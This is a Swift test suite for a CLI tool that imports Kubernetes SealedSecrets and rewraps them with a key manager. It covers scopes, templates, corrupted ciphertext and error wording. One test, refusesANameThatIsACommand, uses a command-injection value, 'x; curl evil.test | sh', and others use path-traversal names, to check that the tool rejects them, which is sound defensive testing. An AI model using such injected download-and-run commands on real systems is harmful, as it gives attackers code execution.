import Cryptography
import Envelope
import Foundation
import JSON
import TestSupport
import Testing
import YAML

@testable import CLI

/// Imports SealedSecrets as WrappedSecrets.
@Suite struct SealedSecretImportTests {
    private let keys: FakeKeyManager
    private let vectors: SealedVectors

    init() throws {
        keys = try FakeKeyManager()
        vectors = try SealedVectors()
    }

    private func documents(_ manifest: AnyJSON) throws -> [SealedSecretDocument] {
        try ManifestFile.objects(
            in: SharedSecret(copying: manifest.data()), source: "s.json", kind: "SealedSecret",
            group: "bitnami.com"
        ).map { try SealedSecretDocument($0, source: "s.json") }
    }

    private func wrapper(_ scope: Scope) -> SecretWrapper {
        SecretWrapper(keys: keys.keyRing, scope: scope, namespace: nil)
    }

    private func convert(
        _ manifests: [AnyJSON], _ key: String = "pkcs1", scope: Scope? = nil, namespace: String? = nil
    ) async throws -> SealedSecretImport.ImportResult {
        await SealedSecretImport(sealingKeys: try vectors.sealingKeys(key), namespace: namespace)
            .wrap(try manifests.flatMap(documents)) { wrapper(scope ?? $1) }
    }

    /// Returns the one line of the error.
    private func problem(
        _ manifest: AnyJSON, key: String = "pkcs1", namespace: String? = nil,
        location: SourceLocation = #_sourceLocation
    ) async throws -> String {
        let message: String
        do {
            let result = try await convert([manifest], key, namespace: namespace)
            #expect(result.outputs.isEmpty, sourceLocation: location)
            #expect(result.problems.count == 1, sourceLocation: location)
            message = result.problems.first?.description ?? ""
        } catch let error as InputError {
            message = error.description
        }
        expectSafeMessage(message, location: location)
        #expect(message.hasPrefix("s.json:1:"), "\(message)", sourceLocation: location)
        return message
    }

    private func opened(_ output: ImportedSecret) async throws -> AnyJSON {
        let back = try await SecretUnwrapper(keys: keys.keyRing, namespace: output.namespace).secrets(
            in: secretBytes(yaml(output.manifest)), source: "w.yaml")
        return try json(try #require(back.first))
    }

    @Test(arguments: [("strict", "strict"), ("namespace-wide", "namespace"), ("cluster-wide", "cluster")])
    func keepsValuesAndScope(sealed: String, scope: String) async throws {
        let output = try #require(try await convert([vectors.manifest(sealed)]).outputs.first)
        #expect(output.relativePath == "payments/db.yaml")
        let wrapped = try json(output.manifest)
        #expect(wrapped[["spec", "scope"]] == .string(scope))
        #expect(wrapped["metadata"] == ["name": "db", "namespace": "payments"])
        #expect(wrapped[["spec", "template"]] == nil)
        #expect(!yaml(output.manifest).contains(canary))
        let expected: AnyJSON = [
            "password": .string(Base64.encode(canary.utf8)), "empty": "",
            "binary": .string(Base64.encode(Array(0...255))),
        ]
        #expect(try await opened(output)["data"] == expected)
    }

    @Test func prefersTheGivenScope() async throws {
        let output = try #require(
            try await convert([vectors.manifest("cluster-wide")], scope: .strict).outputs.first)
        #expect(try json(output.manifest)[["spec", "scope"]] == "strict")
    }

    @Test func keepsTheTemplate() async throws {
        let output = try #require(try await convert([vectors.manifest("described")]).outputs.first)
        #expect(
            try json(output.manifest)[["spec", "template"]] == [
                "metadata": ["labels": ["team": "a"], "annotations": ["note": "yes"]],
                "type": "example.com/x", "immutable": true,
            ])
        #expect(output.notes == [])
    }

    @Test func notesMetadataThatIsLeftOut() async throws {
        var manifest = try vectors.manifest("strict")
        manifest[["metadata", "annotations"]] = ["example.com/note": "-1"]
        manifest[["spec", "template", "metadata", "annotations"]] = [
            "sealedsecrets.bitnami.com/patch": "true"
        ]
        let notes = try #require(try await convert([manifest]).outputs.first).notes
        #expect(notes.count == 2)
        #expect(notes[0].contains("example.com/note is left out"))
        #expect(notes[1].contains("spec.creationPolicy: Merge"))
    }

    /// Instructions to apply tools on the SealedSecret move to the WrappedSecret.
    @Test func keepsInstructionsForApplyTools() async throws {
        var manifest = try vectors.manifest("strict")
        manifest[["metadata", "annotations"]] = ["argocd.argoproj.io/sync-wave": "-1"]
        manifest[["spec", "template", "metadata"]] = [
            "annotations": [
                "argocd.argoproj.io/sync-wave": "5", "argocd.argoproj.io/sync-options": "Prune=false",
                "note": "yes",
            ],
            "labels": ["app.kubernetes.io/instance": "db"],
        ]
        let output = try #require(try await convert([manifest]).outputs.first)
        let wrapped = try json(output.manifest)
        #expect(
            wrapped[["metadata", "annotations"]] == [
                "argocd.argoproj.io/sync-wave": "-1", "argocd.argoproj.io/sync-options": "Prune=false",
            ])
        #expect(wrapped[["spec", "template", "metadata"]] == ["annotations": ["note": "yes"]])
        #expect(output.notes.count == 3)
        #expect(output.notes.contains { $0.contains("label app.kubernetes.io/instance is left out") })
    }

    @Test func opensWithAnyOfTheKeys() async throws {
        let both = try vectors.sealingKeys("second", "pkcs1")
        let documents = try [vectors.manifest("strict"), vectors.manifest("second")].flatMap(documents)
        let result = await SealedSecretImport(sealingKeys: both, namespace: nil).wrap(documents) {
            wrapper($1)
        }
        #expect(result.outputs.count == 2)
        #expect(result.problems == [])
        let message = try await problem(vectors.manifest("second"))
        for part in [
            "the key does not open spec.encryptedData.", "SealedSecret payments/db",
            "kubectl get secret",
            "another namespace or name",
        ] { #expect(message.contains(part), "\(message)") }
    }

    @Test func refusesAValueSealedForAnotherPlace() async throws {
        var moved = try vectors.manifest("strict")
        moved[["metadata", "name"]] = "other"
        #expect(try await problem(moved).contains("SealedSecret payments/other"))
        moved = try vectors.manifest("namespace-wide")
        moved[["metadata", "name"]] = "other"
        #expect(try await convert([moved]).outputs.map(\.relativePath) == ["payments/other.yaml"])
        moved[["metadata", "namespace"]] = "elsewhere"
        #expect(try await problem(moved).contains("SealedSecret elsewhere/other"))
        moved = try vectors.manifest("cluster-wide")
        moved[["metadata", "namespace"]] = "elsewhere"
        #expect(try await convert([moved]).outputs.map(\.relativePath) == ["elsewhere/db.yaml"])
    }

    /// The wider annotation wins, and only the value "true" counts.
    @Test func readsTheScopeFromItsOwnAnnotations() async throws {
        let annotations = ["metadata", "annotations"]
        var manifest = try vectors.manifest("cluster-wide")
        manifest[annotations]?["sealedsecrets.bitnami.com/namespace-wide"] = "true"
        #expect(try await convert([manifest]).outputs.count == 1)
        manifest = try vectors.manifest("strict")
        manifest[["spec", "template", "metadata", "annotations"]] = [
            "sealedsecrets.bitnami.com/cluster-wide": "true"
        ]
        manifest[annotations] = ["sealedsecrets.bitnami.com/cluster-wide": "yes"]
        #expect(try await convert([manifest]).outputs.count == 1)
    }

    @Test func suggestsTheAnnotationOfTheScopeThatOpens() async throws {
        var manifest = try vectors.manifest("cluster-wide")
        manifest[["metadata", "annotations"]] = nil
        #expect(
            try await problem(manifest).contains(
                "opens as cluster-wide, but the SealedSecret is strict; annotate the SealedSecret "
                    + "sealedsecrets.bitnami.com/cluster-wide: \"true\""))
    }

    @Test func takesTheNamespaceFromTheOption() async throws {
        var manifest = try vectors.manifest("strict")
        manifest[["metadata", "namespace"]] = nil
        #expect(
            try await problem(manifest).contains(
                "has no namespace, and its values are sealed for one; give --namespace"))
        #expect(
            try await convert([manifest], namespace: "payments").outputs.map(\.relativePath) == [
                "payments/db.yaml"
            ])
        #expect(
            try await problem(vectors.manifest("strict"), namespace: "other").contains(
                "metadata.namespace is payments, but --namespace is other"))
        manifest = try vectors.manifest("cluster-wide")
        manifest[["metadata", "namespace"]] = nil
        #expect(try await convert([manifest]).outputs.map(\.relativePath) == ["db.yaml"])
        #expect(
            try await convert([manifest], scope: .strict).problems.first?.description.contains("--namespace")
                == true)
    }

    @Test func reportsCorruptedValues() async throws {
        let manifest = try vectors.manifest("strict")
        let whole = try manifest.sealed("password")
        func flipped(_ place: Int) -> [UInt8] {
            var bytes = whole
            bytes[place] ^= 1
            return bytes
        }
        let field = "spec.encryptedData.password of SealedSecret payments/db"
        // The ciphertext and its tag.
        for place in [2 + 256, whole.count - 1] {
            #expect(
                try await problem(manifest.sealing("password", as: flipped(place))).contains(
                    "\(field) was changed"))
        }
        // The wrapped session key.
        #expect(try await problem(manifest.sealing("password", as: flipped(100))).contains("does not open"))
        for count in [0, 1, 2, 257, 258, 258 + 15] {
            let cut = Array(whole.prefix(count))
            #expect(
                try await problem(manifest.sealing("password", as: cut)).contains("\(field) is truncated"),
                "\(count)")
        }
        var malformed = manifest
        malformed[["spec", "encryptedData", "password"]] = "not base64!"
        #expect(try await problem(malformed).contains("spec.encryptedData.password is not valid base64"))
        malformed[["spec", "encryptedData", "password"]] = 7
        #expect(
            try await problem(malformed).contains(
                "spec.encryptedData.password is a number; a string is expected"))
    }

    /// The error names the first entries and counts the others.
    @Test func listsTheFirstOfManyEntries() async throws {
        var manifest = try vectors.manifest("second")
        let value = try #require(manifest[["spec", "encryptedData", "password"]])
        for number in 0..<20 { manifest[["spec", "encryptedData", "e\(number)"]] = value }
        #expect(try await problem(manifest).contains(" and 20 more of SealedSecret"))
    }

    @Test func translatesSimpleTemplates() async throws {
        var manifest = try vectors.manifest("strict")
        manifest[["spec", "template", "data"]] = [
            "url": "postgres://{{- b64enc .password -}} /", "note": "plain",
            "binary.b64": "{{ .binary | b64enc }}",
        ]
        let output = try #require(try await convert([manifest]).outputs.first)
        #expect(
            try json(output.manifest)[["spec", "template", "data"]] == [
                "url": "postgres://{{- .password | base64 -}} /", "note": "plain",
                "binary.b64": "{{ .binary | base64 }}",
            ])
        let url = "postgres://\(Base64.encode(canary.utf8))/"
        #expect(try await opened(output)[["data", "url"]] == .string(Base64.encode(url.utf8)))
        manifest[["spec", "template", "data"]] = .null
        #expect(try await convert([manifest]).outputs.count == 1)
    }

    @Test(arguments: [
        (
            "{{ .password | upper }}",
            "spec.template.data.url of SealedSecret payments/db, line 1 column 16: there is no"
        ),
        ("a\n{{ if .password }}x{{ end }}", "line 2 column 4: if is not supported"),
        ("{{ .missing }}", "there is no entry missing"),
        ("{{ printf .password }}", "there is no function printf"),
    ])
    func refusesOtherTemplatesWithTheirPlace(template: String, message: String) async throws {
        var manifest = try vectors.manifest("strict")
        manifest[["spec", "template", "data"]] = ["url": .string(template)]
        let problem = try await problem(manifest)
        #expect(problem.contains(message), "\(problem)")
        guard template != "{{ .missing }}" else { return }
        #expect(problem.contains("secrets-bridge import -n payments db"))
    }

    @Test func refusesTemplatesThatReplaceOrRemoveValues() async throws {
        var manifest = try vectors.manifest("strict")
        manifest[["spec", "template", "data"]] = ["password": "x"]
        #expect(
            try await problem(manifest).contains(
                "spec.template.data.password of SealedSecret payments/db replaces"))
        manifest[["spec", "template", "data"]] = ["password": .null]
        #expect(try await problem(manifest).contains("is null, which removes the entry"))
    }

    @Test func opensAWholeSealedManifest() async throws {
        let output = try #require(try await convert([vectors.manifest("whole")]).outputs.first)
        #expect(try json(output.manifest)[["spec", "template", "metadata", "labels"]] == ["team": "a"])
        #expect(
            try await opened(output)[["data", "password"]] == .string(Base64.encode(canary.utf8)))
        #expect(
            try await problem(vectors.manifest("not-a-secret")).contains(
                "opens, but does not contain a Secret"))
        var both = try vectors.manifest("whole")
        both[["spec", "encryptedData"]] = try vectors.manifest("strict")[["spec", "encryptedData"]]
        #expect(try await problem(both).contains("both spec.encryptedData and the older spec.data"))
        both = try vectors.manifest("strict")
        both[["spec", "data"]] = both[["spec", "encryptedData"]]
        #expect(try await problem(both).contains("spec.data is a mapping"))
    }

    @Test(
        arguments: [
            (["apiVersion"], "bitnami.com/v2", "bitnami.com/v1alpha1 is expected"),
            (["metadata", "name"], .null, "metadata.name is missing"),
            (["spec"], .null, "spec is missing"),
            (["spec", "encryptedData"], .null, "spec has neither encryptedData nor the older data"),
            (["encryptedData"], [:], "a SealedSecret has no such field"),
            (["spec", "encyptedData"], [:], "spec of a SealedSecret has no such field"),
            (["spec", "template", "labels"], [:], "spec.template of a SealedSecret has no such field"),
            (
                ["spec", "template", "immutable"], "yes",
                "spec.template.immutable is a string; true or false is expected"
            ),
            (
                ["metadata", "annotations"], ["a": true],
                "metadata.annotations.a is a boolean; a string is expected"
            ),
        ] as [([String], AnyJSON, String)])
    func refusesAMalformedSealedSecret(path: [String], value: AnyJSON, part: String) async throws {
        var manifest = try vectors.manifest("strict")
        manifest[path] = value
        let message = try await problem(manifest)
        #expect(message.contains(part), "\(message)")
    }

    /// `encryptedData:` may be indented too little.
    @Test func refusesMisplacedValues() async throws {
        var manifest = try vectors.manifest("strict")
        manifest["encryptedData"] = manifest[["spec", "encryptedData"]]
        manifest[["spec", "encryptedData"]] = nil
        #expect(try await problem(manifest).contains("a SealedSecret has no such field"))
        manifest["encryptedData"] = nil
        #expect(try await problem(manifest).contains("spec has neither"))
        manifest[["spec", "data"]] = .null
        #expect(try await problem(manifest).contains("spec has neither"))
    }

    @Test func acceptsExplicitlyEmptyValues() async throws {
        var manifest = try vectors.manifest("strict")
        manifest[["spec", "encryptedData"]] = [:]
        manifest["status"] = ["observedGeneration": 1]
        let output = try #require(try await convert([manifest]).outputs.first)
        #expect(output.notes.count == 1)
        #expect(output.notes[0].contains("spec.encryptedData of db is empty"))
        var whole = try vectors.manifest("whole")
        whole[["spec", "encryptedData"]] = [:]
        #expect(try await convert([whole]).outputs.map(\.notes) == [[]])
    }

    /// A cluster-wide value opens with any name, so a name could be a path.
    @Test(arguments: [("namespace", "../../etc"), ("name", "../x"), ("name", "a/b")])
    func refusesANameThatIsAPath(field: String, value: String) async throws {
        var manifest = try vectors.manifest("cluster-wide")
        manifest[["metadata", field]] = .string(value)
        #expect(try await problem(manifest).contains("metadata.\(field)"))
    }

    /// The error shows a command that contains the name.
    @Test func refusesANameThatIsACommand() async throws {
        var manifest = try vectors.manifest("cluster-wide")
        manifest[["metadata", "name"]] = "x; curl evil.test | sh"
        manifest[["spec", "template", "data"]] = ["a": "b"]
        let message = try await problem(manifest)
        #expect(!message.contains("secrets-bridge import -n"), "\(message)")
    }

    @Test func notesUnsupportedTemplateMetadata() async throws {
        var manifest = try vectors.manifest("strict")
        manifest[["spec", "template", "metadata", "finalizers"]] = ["example.com/keep"]
        manifest[["metadata", "finalizers"]] = ["example.com/keep"]
        let notes = try #require(try await convert([manifest]).outputs.first?.notes)
        #expect(
            notes.contains { $0.contains("the SealedSecret's own metadata.finalizers is left out") },
            "\(notes)")
        #expect(notes.contains { $0.contains("spec.template.metadata.finalizers is left out") }, "\(notes)")
    }

    /// One SealedSecret that cannot be opened keeps the others from being wrapped, and each is reported.
    @Test func importsNothingIfOneCannotBeOpened() async throws {
        var moved = try vectors.manifest("strict")
        moved[["metadata", "name"]] = "other"
        let result = try await convert([
            vectors.manifest("strict"), moved, vectors.manifest("second"), vectors.manifest("described"),
        ])
        #expect(result.outputs.isEmpty)
        #expect(result.problems.count == 2)
    }

    /// Invalid Secrets are found before the first request to the KMS, which would fail here.
    @Test func reportsEverySecretThatCannotBeWrapped() async throws {
        keys.fail(.unavailable)
        var mislabelled = try vectors.manifest("strict")
        mislabelled[["spec", "template", "metadata", "labels"]] = ["-odd-": "x"]
        var lacking = try vectors.manifest("strict")
        lacking[["spec", "template", "type"]] = "kubernetes.io/tls"
        var named = try vectors.manifest("cluster-wide")
        named[["metadata", "name"]] = "A"
        let result = try await convert([vectors.manifest("strict"), mislabelled, lacking, named])
        let messages = result.problems.map(\.description)
        #expect(result.outputs.isEmpty, "\(messages)")
        #expect(messages.count == 3, "\(messages)")
        for (message, part) in zip(messages, ["-odd-", "needs the entry tls.crt", "metadata.name"]) {
            #expect(message.contains(part), "\(message)")
            expectSafeMessage(message)
        }
    }

    @Test func keepsInstructionsForApplyToolsOfAWholeManifest() async throws {
        var manifest = try vectors.manifest("whole")
        manifest[["metadata", "annotations"]] = ["helm.sh/resource-policy": "keep"]
        let output = try #require(try await convert([manifest]).outputs.first)
        #expect(
            try json(output.manifest)[["metadata", "annotations"]] == ["helm.sh/resource-policy": "keep"])
        #expect(output.notes == [])
    }

    @Test func reportsAFailingKMSOnce() async throws {
        keys.fail(.unavailable)
        let result = try await convert([vectors.manifest("strict"), vectors.manifest("described")])
        #expect(result.outputs.isEmpty)
        #expect(result.problems.count == 1)
        expectSafeMessage(result.problems.first?.description)
    }

    @Test func reportsTwoSecretsOfOnePath() async throws {
        let result = try await convert([vectors.manifest("strict"), vectors.manifest("described")])
        #expect(
            ImportedSecret.pathCollision(in: result.outputs)?.description.contains(
                "payments/db.yaml is also created from")
                == true)
        #expect(ImportedSecret.pathCollision(in: Array(result.outputs.prefix(1))) == nil)
    }
}
